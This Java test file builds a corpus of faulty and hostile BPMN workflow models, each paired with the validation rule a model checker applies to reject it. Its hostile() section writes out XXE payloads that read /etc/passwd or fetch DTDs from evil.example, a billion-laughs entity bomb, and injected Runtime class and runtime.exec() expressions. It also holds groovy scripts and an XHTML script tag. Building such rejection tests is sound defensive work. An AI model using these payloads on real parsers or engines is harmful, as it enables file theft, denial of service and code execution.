package io.duban.modeling.checking;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Faulty and hostile models, each with the rule for which it is refused. */
final class FaultyCorpus {

    /** What is wrong, the rule that says so, the file. */
    record Faulty(ModelRule rule, String what, byte[] file) {

        @Override
        public String toString() {
            return rule + ": " + what;
        }
    }

    /** Has an element of nearly every kind, and nothing is wrong with it. */
    static final String GOOD = Sketch.xml("""
            start begin
            step write
            part units each=unitsOwing
              start inside
              step report block=writeReport for=unit:OFFICER until=unitReport late=report
              step agree block=decideUnitReport for=unit:DEPARTMENT_HEAD
              xor agreed
              end reported
              inside > report > agree > agreed
              agreed > reported answer=APPROVED
              agreed > report answer=RETURNED
            done
            timer late on write aside
            work note noteLateness
            end noted
            xor more
            call years annualReport
            end over
            begin > write > units > more
            late > note > noted
            more > years when=moreYears
            more > over unless=moreYears
            years > over
            """);

    private final List<Faulty> all = new ArrayList<>();

    private FaultyCorpus() {}

    static List<Faulty> all() {
        FaultyCorpus corpus = new FaultyCorpus();
        corpus.files();
        corpus.schema();
        corpus.hostile();
        corpus.foreign();
        corpus.structure();
        corpus.events();
        corpus.words();
        corpus.steps();
        corpus.decisions();
        corpus.answers();
        corpus.house();
        corpus.orders();
        corpus.loops();
        return corpus.all;
    }

    private void add(ModelRule rule, String what, String xml) {
        all.add(new Faulty(rule, what, Sketch.file(xml)));
    }

    private void drawn(ModelRule rule, String what, String lines) {
        add(rule, what, Sketch.xml(lines));
    }

    /** The good model with one thing changed. */
    private void changed(ModelRule rule, String what, String found, String instead) {
        if (!GOOD.contains(found)) {
            throw new IllegalArgumentException("not in the model: " + found);
        }
        add(rule, what, GOOD.replaceFirst(Pattern.quote(found), Matcher.quoteReplacement(instead)));
    }

    private void inside(ModelRule rule, String what, String element) {
        changed(rule, what, "</bpmn:process>", element + "</bpmn:process>");
    }

    private void files() {
        add(ModelRule.TOO_LARGE, "three megabytes", GOOD + " ".repeat(3 << 20));
        all.add(new Faulty(ModelRule.NOT_UTF_8, "Chinese in another encoding", GOOD.getBytes(Charset.forName("GBK"))));
        add(
                ModelRule.NOT_UTF_8,
                "another encoding declared",
                GOOD.replace("UTF-8", "ISO-8859-1").replaceAll("\\p{IsHan}", "x"));
        all.add(new Faulty(ModelRule.NOT_UTF_8, "UTF-16", GOOD.getBytes(StandardCharsets.UTF_16)));
        add(ModelRule.NOT_UTF_8, "an encoding that nobody knows", GOOD.replace("UTF-8", "EBCDIC-X"));
        add(ModelRule.NOT_XML, "an element without an end", GOOD.replace("</bpmn:process>", ""));
        add(ModelRule.NOT_XML, "nothing", "");
        add(ModelRule.NOT_XML, "a picture", "\u0089PNG\r\n");
        add(ModelRule.NOT_XML, "a prefix that is not declared", GOOD.replace("xmlns:camunda", "xmlns:other"));
        add(ModelRule.NOT_BPMN, "a page", "<html><body/></html>");
        add(
                ModelRule.NOT_BPMN,
                "a decision table",
                "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\"/>");
        add(ModelRule.NOT_BPMN, "the wrong namespace", GOOD.replace("BPMN/20100524/MODEL", "BPMN/20990101/MODEL"));
        add(
                ModelRule.TOO_DEEP,
                "a hundred levels",
                GOOD.replace(
                        "</bpmn:process>",
                        "<bpmn:subProcess>".repeat(100) + "</bpmn:subProcess>".repeat(100) + "</bpmn:process>"));
        add(
                ModelRule.TOO_MANY_ELEMENTS,
                "thirty thousand elements",
                GOOD.replace("</bpmn:process>", "<bpmn:task/>".repeat(30_000) + "</bpmn:process>"));
        changed(ModelRule.TOO_LONG, "a name without end", "name=\"节点write\"", "name=\"" + "长".repeat(30_000) + "\"");
        changed(
                ModelRule.TOO_LONG,
                "a text without end",
                "<bpmn:process",
                "<bpmn:documentation>" + "长".repeat(30_000) + "</bpmn:documentation><bpmn:process");
    }

    private void schema() {
        changed(
                ModelRule.SCHEMA,
                "elements out of their order",
                "<bpmn:extensionElements>",
                "<bpmn:incoming>beginToWrite</bpmn:incoming><bpmn:extensionElements>");
        changed(ModelRule.SCHEMA, "neither true nor false", "cancelActivity=\"false\"", "cancelActivity=\"perhaps\"");
        changed(ModelRule.SCHEMA, "an id that is none", "id=\"lateTimer\"", "id=\"1 2\"");
    }

    private void hostile() {
        String head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
        add(
                ModelRule.DOCTYPE,
                "a file of the server",
                GOOD.replace(head, head + "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"));
        add(
                ModelRule.DOCTYPE,
                "a file of another server",
                GOOD.replace(head, head + "<!DOCTYPE d SYSTEM \"http://evil.example/x.dtd\">"));
        add(
                ModelRule.DOCTYPE,
                "a billion laughs",
                GOOD.replace(
                                head,
                                head
                                        + "<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>")
                        .replace("节点write", "&c;"));
        add(
                ModelRule.DOCTYPE,
                "a parameter entity",
                GOOD.replace(head, head + "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://evil.example/x\"> %p;]>"));
        add(
                ModelRule.INSTRUCTION,
                "a style sheet",
                GOOD.replace(head, head + "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>"));
        inside(
                ModelRule.ELEMENT,
                "a script",
                "<bpmn:scriptTask id=\"evil\" scriptFormat=\"groovy\"><bpmn:script>1</bpmn:script></bpmn:scriptTask>");
        changed(
                ModelRule.ATTRIBUTE,
                "a class",
                "<bpmn:serviceTask ",
                "<bpmn:serviceTask camunda:class=\"java.lang.Runtime\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "a bean",
                "<bpmn:serviceTask ",
                "<bpmn:serviceTask camunda:delegateExpression=\"issueBatch\" ");
        changed(
                ModelRule.EXPRESSION,
                "an expression",
                "<bpmn:serviceTask ",
                "<bpmn:serviceTask camunda:expression=\"${runtime.exec()}\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "work outside",
                "<bpmn:serviceTask ",
                "<bpmn:serviceTask camunda:type=\"external\" camunda:topic=\"x\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "a form from elsewhere",
                "<bpmn:userTask ",
                "<bpmn:userTask camunda:formKey=\"http://evil.example\" ");
        changed(ModelRule.ATTRIBUTE, "a fixed person", "<bpmn:userTask ", "<bpmn:userTask camunda:assignee=\"admin\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "a fixed group",
                "<bpmn:userTask ",
                "<bpmn:userTask camunda:candidateGroups=\"all\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "another job first",
                "<bpmn:userTask ",
                "<bpmn:userTask camunda:jobPriority=\"100\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "who may start it",
                "<bpmn:process ",
                "<bpmn:process camunda:candidateStarterGroups=\"x\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "another language",
                "targetNamespace=",
                "expressionLanguage=\"groovy\" targetNamespace=");
        String listener = "<camunda:executionListener event=\"start\" class=\"Evil\"/>";
        changed(
                ModelRule.ELEMENT,
                "a listener of the process",
                "<bpmn:extensionElements>",
                "<bpmn:extensionElements>" + listener);
        changed(
                ModelRule.ELEMENT,
                "a listener of a task",
                "<bpmn:extensionElements>",
                "<bpmn:extensionElements><camunda:taskListener event=\"create\" expression=\"x\"/>");
        changed(
                ModelRule.ELEMENT,
                "a connector",
                "<bpmn:extensionElements>",
                "<bpmn:extensionElements><camunda:connector><camunda:connectorId>http</camunda:connectorId></camunda:connector>");
        changed(
                ModelRule.ELEMENT,
                "a script in a variable",
                "<bpmn:extensionElements>",
                "<bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name=\"a\"><camunda:script scriptFormat=\"groovy\">1</camunda:script></camunda:inputParameter></camunda:inputOutput>");
        changed(
                ModelRule.ELEMENT,
                "a field handed in",
                "<bpmn:extensionElements>",
                "<bpmn:extensionElements><camunda:field name=\"x\" stringValue=\"y\"/>");
        changed(
                ModelRule.ELEMENT,
                "retries without end",
                "<bpmn:extensionElements>",
                "<bpmn:extensionElements><camunda:failedJobRetryTimeCycle>R99999/PT1S</camunda:failedJobRetryTimeCycle>");
        changed(ModelRule.EXPRESSION, "an expression in a name", "name=\"节点write\"", "name=\"${evil}\"");
        changed(ModelRule.EXPRESSION, "an expression in a property", "value=\"within:5\"", "value=\"#{evil}\"");
        changed(
                ModelRule.EXPRESSION,
                "an expression in a text",
                "<bpmn:process",
                "<bpmn:documentation>${evil}</bpmn:documentation><bpmn:process");
        changed(
                ModelRule.ELEMENT,
                "a condition of its own",
                "targetRef=\"units\">",
                "targetRef=\"units\"><bpmn:conditionExpression>true</bpmn:conditionExpression>");
        changed(
                ModelRule.FOREIGN,
                "content of another engine",
                "<bpmn:extensionElements>",
                "<bpmn:extensionElements><z:task xmlns:z=\"http://camunda.org/schema/zeebe/1.0\" type=\"x\"/>");
        changed(
                ModelRule.FOREIGN,
                "a page in the drawing",
                "<dc:Bounds",
                "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script><dc:Bounds");
        changed(
                ModelRule.ATTRIBUTE,
                "a foreign attribute",
                "<bpmn:userTask ",
                "<bpmn:userTask xmlns:x=\"urn:x\" x:run=\"now\" ");
        changed(
                ModelRule.ELEMENT,
                "an import",
                "<bpmn:process",
                "<bpmn:import importType=\"x\" location=\"http://evil.example\" namespace=\"y\"/><bpmn:process");
    }

    private void foreign() {
        for (String kind : List.of(
                "task",
                "manualTask",
                "sendTask",
                "receiveTask",
                "businessRuleTask",
                "adHocSubProcess",
                "transaction",
                "complexGateway",
                "intermediateThrowEvent",
                "dataObject",
                "laneSet",
                "ioSpecification")) {
            inside(ModelRule.ELEMENT, kind, "<bpmn:" + kind + " id=\"foreign\"/>");
        }
        changed(ModelRule.ELEMENT, "pools", "<bpmn:process", "<bpmn:collaboration id=\"pools\"/><bpmn:process");
        changed(
                ModelRule.ATTRIBUTE,
                "an event that begins a part",
                "<bpmn:subProcess ",
                "<bpmn:subProcess triggeredByEvent=\"true\" ");
        changed(
                ModelRule.ATTRIBUTE,
                "making good afterwards",
                "<bpmn:userTask ",
                "<bpmn:userTask isForCompensation=\"true\" ");
        changed(
                ModelRule.ELEMENT,
                "a start by a message",
                "<bpmn:startEvent id=\"begin\" name=\"节点begin\">",
                "<bpmn:startEvent id=\"begin\" name=\"节点begin\"><bpmn:messageEventDefinition/>");
        changed(
                ModelRule.ELEMENT,
                "an end by a signal",
                "<bpmn:endEvent id=\"over\" name=\"节点over\">",
                "<bpmn:endEvent id=\"over\" name=\"节点over\"><bpmn:signalEventDefinition/>");
        changed(
                ModelRule.ELEMENT,
                "a date of its own",
                "<bpmn:timerEventDefinition id=\"lateTimer\"/>",
                "<bpmn:timerEventDefinition id=\"lateTimer\"><bpmn:timeCycle>R/PT1S</bpmn:timeCycle></bpmn:timerEventDefinition>");
        changed(
                ModelRule.LOOP,
                "one after the other",
                "<bpmn:multiInstanceLoopCharacteristics/>",
                "<bpmn:multiInstanceLoopCharacteristics isSequential=\"true\"/>");
        changed(
                ModelRule.LOOP,
                "a loop that stands",
                "<bpmn:multiInstanceLoopCharacteristics/>",
                "<bpmn:standardLoopCharacteristics/>");
        changed(
                ModelRule.ELEMENT,
                "a thousand times",
                "<bpmn:multiInstanceLoopCharacteristics/>",
                "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>");
    }

    private void structure() {
        changed(ModelRule.ONE_PROCESS, "two processes", "<bpmn:process", "<bpmn:process id=\"other\"/><bpmn:process");
        add(
                ModelRule.ONE_PROCESS,
                "no process",
                "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"/>");
        changed(
                ModelRule.ID_MISSING,
                "a flow without an id",
                "<bpmn:sequenceFlow id=\"beginToWrite\"",
                "<bpmn:sequenceFlow");
        changed(
                ModelRule.ID_TWICE,
                "an id that is there twice",
                "<bpmn:endEvent id=\"over\"",
                "<bpmn:endEvent id=\"write\"");
        changed(
                ModelRule.ID_UNSPOKEN,
                "an id of a tool",
                "<bpmn:sequenceFlow id=\"beginToWrite\"",
                "<bpmn:sequenceFlow id=\"Flow_0x1y2z\"");
        changed(ModelRule.REFERENCE, "a flow to nowhere", "targetRef=\"units\"", "targetRef=\"nowhere\"");
        changed(ModelRule.REFERENCE, "a flow into a part", "targetRef=\"units\"", "targetRef=\"report\"");
        changed(ModelRule.REFERENCE, "a timer on nothing", "attachedToRef=\"write\"", "attachedToRef=\"nothing\"");
        changed(ModelRule.REFERENCE, "a timer on a gateway", "attachedToRef=\"write\"", "attachedToRef=\"more\"");
        changed(
                ModelRule.REFERENCE,
                "a default that is not there",
                "<bpmn:exclusiveGateway id=\"more\"",
                "<bpmn:exclusiveGateway default=\"nothing\" id=\"more\"");
        changed(
                ModelRule.REFERENCE,
                "a way repeated wrongly",
                "<bpmn:timerEventDefinition",
                "<bpmn:outgoing>nothing</bpmn:outgoing><bpmn:timerEventDefinition");
        drawn(ModelRule.WAY_FORBIDDEN, "a way to the start", "start s\nstep a\nxor d\nend e\ns > a > d\nd > s\nd > e");
        drawn(ModelRule.WAY_FORBIDDEN, "a way from the end", "start s\nstep a\nend e\ns > a > e > a");
        drawn(
                ModelRule.WAY_OUT_MISSING,
                "a step without a way on",
                "start s\nxor d\nstep a\nend e\ns > d\nd > a\nd > e");
        drawn(ModelRule.WAY_IN_MISSING, "a step that nothing leads to", "start s\nstep a\nend e\ns > e\na > e");
        drawn(ModelRule.START, "two starts", "start s\nstart t\nstep a\nend e\ns > a\nt > a > e");
        drawn(
                ModelRule.START,
                "a part without a start",
                "start s\npart p\nstep a\nend x\na > x\ndone\nend e\ns > p > e");
        drawn(ModelRule.END, "no end", "start s\nstep a\nstep b\ns > a > b > a");
        changed(ModelRule.DRAWING, "a drawing of nothing", "bpmnElement=\"over\"", "bpmnElement=\"nothing\"");
        changed(ModelRule.DRAWING, "no bounds", "<dc:Bounds x=\"100\" y=\"100\" width=\"36\" height=\"36\"/>", "");
        changed(ModelRule.DRAWING, "bounds that are no numbers", "x=\"100\"", "x=\"NaN\"");
        changed(
                ModelRule.DRAWING,
                "an edge of one point",
                "<bpmndi:BPMNShape",
                "<bpmndi:BPMNEdge id=\"edge\" bpmnElement=\"beginToWrite\"><di:waypoint x=\"1\" y=\"1\"/></bpmndi:BPMNEdge><bpmndi:BPMNShape");
        changed(ModelRule.NOT_DRAWN, "a step that is not drawn", "bpmnElement=\"write\"", "bpmnElement=\"note\"");
    }

    private void events() {
        changed(ModelRule.EVENT, "a timer without a definition", "<bpmn:timerEventDefinition id=\"lateTimer\"/>", "");
        drawn(
                ModelRule.GATEWAY_TARGET,
                "a step behind an event gateway",
                "start s\nfirst f\nwait a\nstep b\nend e\ns > f\nf > a > e\nf > b > e");
        drawn(
                ModelRule.GATEWAY_TARGET,
                "another way to its event",
                "start s\nxor d\nfirst f\nwait a\nwait b\nend e\ns > d\nd > f\nd > a\nf > a > e\nf > b > e");
        drawn(ModelRule.GATEWAY_IDLE, "a gateway that decides nothing", "start s\nxor d\nstep a\nend e\ns > d > a > e");
        drawn(
                ModelRule.ERROR_UNCAUGHT,
                "an error that nobody catches",
                "start s\nxor d\nstep a\nend e\nthrow t code=TO_LEAD\ns > a > d\nd > e\nd > t");
        drawn(
                ModelRule.ERROR_UNTHROWN,
                "an error that nobody throws",
                "start s\npart p\nstart i\nstep a\nend x\ni > a > x\ndone\ncatch c on p code=TO_LEAD\nend e\ns > p > e\nc > e");
        drawn(
                ModelRule.ERROR_CODE,
                "an error that is no answer",
                "start s\npart p\nstart i\nstep a\nthrow x code=oops\ni > a > x\ndone\ncatch c on p code=oops\nend e\ns > p > e\nc > e");
        changed(ModelRule.EACH_ALONE, "many of nothing", "<camunda:property name=\"each\" value=\"unitsOwing\"/>", "");
        changed(ModelRule.EACH_ALONE, "each of one", "<bpmn:multiInstanceLoopCharacteristics/>", "");
    }

    private void words() {
        changed(ModelRule.PROPERTY, "a property that there is not", "name=\"late\"", "name=\"colour\"");
        drawn(ModelRule.PROPERTY, "a property at the wrong element", "start s\nstep a does=openYear\nend e\ns > a > e");
        changed(
                ModelRule.PROPERTY_TWICE,
                "said twice",
                "<camunda:property name=\"late\" value=\"step\"/>",
                "<camunda:property name=\"late\" value=\"step\"/><camunda:property name=\"late\" value=\"office\"/>");
        for (String property : List.of("block", "for", "until", "late")) {
            drawn(
                    ModelRule.PROPERTY_MISSING,
                    "a step without " + property,
                    "start s\nstep a\nend e\ns > a > e",
                    property);
        }
        drawn(ModelRule.WORD_UNKNOWN, "no such block", "start s\nstep a block=dance\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "no such day", "start s\nstep a until=tomorrow\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "no days", "start s\nstep a until=within:0\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "too many days", "start s\nstep a until=within:999\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "no such lateness", "start s\nstep a late=never\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "nothing to ask for", "start s\nstep a asks=money\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "perhaps sent back to", "start s\nstep a returnable=maybe\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "no such phase", "start s\nstep a phase=PARTY\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "no such units", "start s\nstep a each=everybody\nend e\ns > a > e");
        drawn(ModelRule.WORD_UNKNOWN, "no such work", "start s\nwork w explode async\nend e\ns > w > e");
        drawn(ModelRule.WORD_UNKNOWN, "no such party", "start s\nstep a for=nobody:OFFICER\nend e\ns > a > e");
        drawn(
                ModelRule.WORD_UNKNOWN,
                "no such condition",
                "start s\nxor d\nstep a\nend e\ns > d\nd > a when=sunny\nd > e unless=sunny\na > e");
        drawn(
                ModelRule.WORD_UNKNOWN,
                "no such answer",
                "start s\nstep a block=decideReport\nxor d\nend e\nend f\ns > a > d\nd > e answer=MAYBE\nd > f answer=ACCEPTED");
    }

    private void drawn(ModelRule rule, String what, String lines, String without) {
        add(
                rule,
                what,
                Sketch.xml(lines).replaceFirst("<camunda:property name=\"" + without + "\" value=\"[^\"]*\"/>", ""));
    }

    private void steps() {
        add(
                ModelRule.WORD_MISPLACED,
                "a block of another thing",
                Sketch.xml("supervisionOrder", "start s\nstep a block=writeReport\nend e\ns > a > e"));
        add(
                ModelRule.WORD_MISPLACED,
                "a party of another thing",
                Sketch.xml(
                        "supervisionOrder", "start s\nstep a block=replyToOrder for=lead:OFFICER\nend e\ns > a > e"));
        add(
                ModelRule.WORD_MISPLACED,
                "a phase of another thing",
                Sketch.xml(
                        "supervisionOrder",
                        "start s\nstep a block=replyToOrder for=orderUnit:OFFICER phase=RUNNING\nend e\ns > a > e"));
        drawn(ModelRule.WORD_MISPLACED, "a day of another thing", "start s\nstep a until=orderReply\nend e\ns > a > e");
        drawn(
                ModelRule.WORD_MISPLACED,
                "a timer that ends the years",
                "start s\nwait w phase=COMPLETION\nstep a\nend e\ns > w > a > e");
        drawn(ModelRule.ROLE_UNKNOWN, "no role", "start s\nstep a for=lead\nend e\ns > a > e");
        drawn(ModelRule.ROLE_UNKNOWN, "no such role", "start s\nstep a for=lead:KING\nend e\ns > a > e");
        drawn(
                ModelRule.ROLE_UNKNOWN,
                "a role that keeps out of the work",
                "start s\nstep a for=lead:ADMIN\nend e\ns > a > e");
        drawn(
                ModelRule.ROLE_UNKNOWN,
                "three roles",
                "start s\nstep a for=lead:OFFICER,DEPARTMENT_HEAD,SUPERVISOR\nend e\ns > a > e");
        drawn(ModelRule.UNIT_UNKNOWN, "no unit's id", "start s\nstep a for=named/king:OFFICER\nend e\ns > a > e");
        drawn(ModelRule.UNIT_OUTSIDE, "a unit outside", "start s\nstep a for=unit:OFFICER\nend e\ns > a > e");
        drawn(ModelRule.UNIT_OUTSIDE, "a unit's day outside", "start s\nstep a until=signing\nend e\ns > a > e");
        drawn(ModelRule.UNIT_OUTSIDE, "a unit's block outside", "start s\nstep a block=writeReport\nend e\ns > a > e");
        drawn(ModelRule.CALLED_UNKNOWN, "calls nothing", "start s\ncall c nothing\nend e\ns > c > e");
        drawn(
                ModelRule.CALLED_UNKNOWN,
                "calls what is about something else",
                "start s\ncall c planIssue\nend e\ns > c > e");
        drawn(ModelRule.CALLED_SELF, "calls itself", "start s\ncall c taskLife\nend e\ns > c > e");
    }

    private void decisions() {
        drawn(
                ModelRule.CONDITION_MISSING,
                "a way without a condition",
                "start s\nxor d\nstep a\nend e\ns > d\nd > a when=moreYears\nd > e\na > e");
        drawn(
                ModelRule.CONDITION_GAP,
                "the other case",
                "start s\nxor d\nstep a\nend e\ns > d\nd > a when=moreYears\nd > e when=allSigned\na > e");
        drawn(
                ModelRule.CONDITION_GAP,
                "none of several",
                "start s\nor d\nstep a\nstep b\nor j\nend e\ns > d\nd > a when=moreYears\nd > b when=allSigned\na > j\nb > j > e");
        drawn(
                ModelRule.CONDITION_TWICE,
                "two conditions",
                "start s\nxor d\nstep a\nend e\ns > d\nd > a when=moreYears unless=allSigned\nd > e unless=moreYears\na > e");
        drawn(
                ModelRule.CONDITION_MISPLACED,
                "a condition where nothing is decided",
                "start s\nstep a\nend e\ns > a when=moreYears\na > e");
        drawn(
                ModelRule.CONDITION_MISPLACED,
                "a condition side by side",
                "start s\nand f\nstep a\nstep b\nand j\nend e\ns > f\nf > a when=moreYears\nf > b\na > j\nb > j > e");
    }

    private void answers() {
        String review = "start s\nstep w\nstep r block=%s for=office:OFFICE_STAFF\nxor d\nend e\ns > w > r > d\n";
        drawn(
                ModelRule.ANSWER_IMPOSSIBLE,
                "an answer that the block does not give",
                review.formatted("decideReport") + "d > e answer=ACCEPTED\nd > w answer=OBJECTED");
        drawn(
                ModelRule.ANSWER_IMPOSSIBLE,
                "a second way of agreeing",
                review.formatted("decideReport") + "d > e answer=ACCEPTED\nd > w answer=APPROVED");
        drawn(
                ModelRule.ANSWER_UNDRAWN,
                "no way back",
                review.formatted("decideAnnualPlan") + "d > e answer=ACCEPTED\nd > w answer=APPROVED");
        drawn(
                ModelRule.ANSWER_UNDRAWN,
                "nobody asks what was decided",
                "start s\nstep r block=decideAnnualPlan for=office:OFFICE_STAFF\nend e\ns > r > e");
        drawn(
                ModelRule.ANSWER_TWICE,
                "an answer with two ways",
                review.formatted("decideAnnualPlan")
                        + "d > e answer=ACCEPTED\nd > w answer=RETURNED\nend f\nd > f answer=RETURNED");
        drawn(
                ModelRule.ANSWER_BY_NOBODY,
                "nobody was asked",
                "start s\nxor d\nend e\nend f\ns > d\nd > e answer=ACCEPTED\nd > f answer=RETURNED");
        drawn(
                ModelRule.ANSWER_BY_NOBODY,
                "not everybody was asked",
                "start s\nxor g\nstep r block=decideAnnualPlan\nxor d\nend e\nend f\ns > g\ng > r > d\ng > d\nd > e answer=ACCEPTED\nd > f answer=RETURNED");
    }

    private void house() {
        add(
                ModelRule.PROCESS_UNKNOWN,
                "a process that nobody begins",
                Sketch.xml("holiday", "start s\nstep a\nend e\ns > a > e"));
        changed(ModelRule.NOT_EXECUTABLE, "not executable", "isExecutable=\"true\"", "isExecutable=\"false\"");
        changed(ModelRule.NOT_KEPT, "forgotten after half a year", "P10957D", "P180D");
        changed(ModelRule.NAME_MISSING, "no Chinese name", "name=\"节点write\"", "name=\"write\"");
        changed(
                ModelRule.ENGLISH_MISSING,
                "no English name",
                "<camunda:property name=\"name.en\" value=\"Node write\"/>",
                "");
        changed(ModelRule.ENGLISH_MISSING, "Chinese as English", "value=\"Node write\"", "value=\"填报\"");
        changed(ModelRule.NAME_LONG, "a name like a speech", "name=\"节点write\"", "name=\"" + "长".repeat(100) + "\"");
        changed(
                ModelRule.WAY_UNNAMED,
                "a way that does not say when",
                "id=\"moreToOver\" name=\"去向\"",
                "id=\"moreToOver\"");
        drawn(
                ModelRule.EFFECT_IN_REQUEST,
                "work in somebody's request",
                "start s\nstep a\nwork o openYear\nend e\ns > a > o > e");
        drawn(
                ModelRule.LATENESS_OF_NOTHING,
                "lateness of nothing",
                "start s\nwait w\nwork n noteLateness\nstep a\nend e\ns > w > n > a > e");
        StringBuilder many = new StringBuilder("start s\nend e\ns > a1\na20 > e\n");
        for (int i = 1; i <= 20; i++) {
            many.append("step a").append(i).append('\n').append(i == 1 ? "" : "a" + (i - 1) + " > a" + i + "\n");
        }
        drawn(ModelRule.TOO_MANY_NODES, "22 nodes", many.toString());
    }

    private void orders() {
        drawn(
                ModelRule.STUCK,
                "a choice that is waited for on both ways",
                "start s\nxor d\nstep a\nstep b\nand j\nend e\ns > d\nd > a > j\nd > b > j\nj > e");
        drawn(
                ModelRule.STUCK,
                "a branch that ends while it is waited for",
                "start s\nand f\nstep a\nxor d\nstep b\nand j\nend e\nend g\ns > f\nf > a > d\nd > j\nd > g\nf > b > j\nj > e");
        drawn(
                ModelRule.STUCK,
                "a loop into a join",
                "start s\nxor m\nand j\nstep a\nend e\ns > j\na > j\nj > m\nm > a\nm > e");
        drawn(
                ModelRule.UNSAFE,
                "branches that nobody joins",
                "start s\nand f\nstep a\nstep b\nxor m\nstep c\nend e\ns > f\nf > a > m\nf > b > m\nm > c > e");
        drawn(
                ModelRule.UNSAFE,
                "a branch that goes back",
                "start s\nxor m\nand f\nstep a\nend e\ns > m > f\nf > a > m\nf > e");
        drawn(
                ModelRule.UNSAFE,
                "a timer beside that comes back",
                "start s\nxor m\nstep a\ntimer t on a aside\nend e\ns > m > a > e\nt > m");
        drawn(
                ModelRule.IMPROPER,
                "branches to one end",
                "start s\nand f\nstep a\nstep b\nend e\ns > f\nf > a > e\nf > b > e");
        drawn(
                ModelRule.DEAD,
                "a part that is never come to",
                "start s\nxor d\nstep a\nstep b\nand j\nstep c\nend e\ns > d\nd > a > j\nd > b > j\nj > c > e");
        drawn(
                ModelRule.ENDLESS,
                "a circle that nobody leaves",
                "start s\nxor d\nstep a\nstep b\nend e\ns > d\nd > e\nd > a > b > a");
        drawn(
                ModelRule.ENDLESS,
                "branches that wait in a circle",
                "start s\nand f\nstep a\nstep b\nstep c\nend e\ns > f\nf > a > e\nf > b > c > b");
        drawn(
                ModelRule.STUCK,
                "a part that never ends",
                "start s\npart p\nstart i\nxor d\nstep a\nstep b\nand j\nend x\ni > d\nd > a > j\nd > b > j\nj > x\ndone\nend e\ns > p > e");
        drawn(
                ModelRule.STUCK,
                "a timer that takes the way that is waited for",
                "start s\nand f\nstep a\nstep b\ntimer t on a\nand j\nend e\nend g\ns > f\nf > a > j\nf > b > j\nj > e\nt > g");
    }

    private void loops() {
        drawn(
                ModelRule.LOOP_WITHOUT_PERSON,
                "gateways in a circle",
                "start s\nxor m\nxor d\nend e\ns > m > d\nd > m when=moreYears\nd > e unless=moreYears");
        drawn(
                ModelRule.LOOP_WITHOUT_PERSON,
                "a timer in a circle",
                "start s\nwait w\nxor d\nend e\ns > w > d\nd > w when=moreYears\nd > e unless=moreYears");
        drawn(
                ModelRule.LOOP_WITHOUT_PERSON,
                "work in a circle",
                "start s\nwork o openYear async\nxor d\nend e\ns > o > d\nd > o when=allSigned\nd > e unless=allSigned");
    }
}
